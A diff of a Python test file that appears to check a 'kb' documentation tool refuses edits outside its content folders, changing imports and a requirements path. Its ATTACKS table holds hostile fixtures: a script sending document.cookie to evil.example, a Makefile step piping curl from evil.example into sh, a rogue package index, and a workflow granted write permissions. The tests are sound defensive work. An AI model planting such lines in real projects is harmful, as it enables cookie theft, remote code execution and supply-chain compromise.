@@ -15,11 +15,11 @@ import pytest
 import yaml
 
 from conftest import ROOT, edit, git
-from kb.project import layout
 from kb.cli.commands import main as kb
+from kb.project import layout
 
 # Files of the project besides what `project` copies, that the attacks change.
-REPO_FILES = (".github", "Makefile", "requirements.lock", "pyproject.toml")
+REPO_FILES = (".github", "Makefile", "requirements", "pyproject.toml")
 REFUSAL = "outside the content folders"
 
 
@@ -61,7 +61,7 @@ ATTACKS = {
     "an inline script in the theme": ("overrides/main.html", "{% block content %}",
                                       "{% block content %}<script>fetch('https://evil.example/'+document.cookie)</script>"),
     "a download piped into sh": ("Makefile", None, "\ninstall: evil\nevil:\n\tcurl -fsSL https://evil.example/x | sh\n"),
-    "an extra package index": ("requirements.lock", None, "--extra-index-url https://evil.example/simple\n"),
+    "an extra package index": ("requirements/test.txt", None, "--extra-index-url https://evil.example/simple\n"),
     "the PR workflow with write access": (".github/workflows/pull-request.yml", "permissions:\n  contents: read",
                                           "permissions:\n  contents: write\n  pull-requests: write"),
     "a new module of the build": ("mkdocs_kb/evil.py", None, "import os\n"),
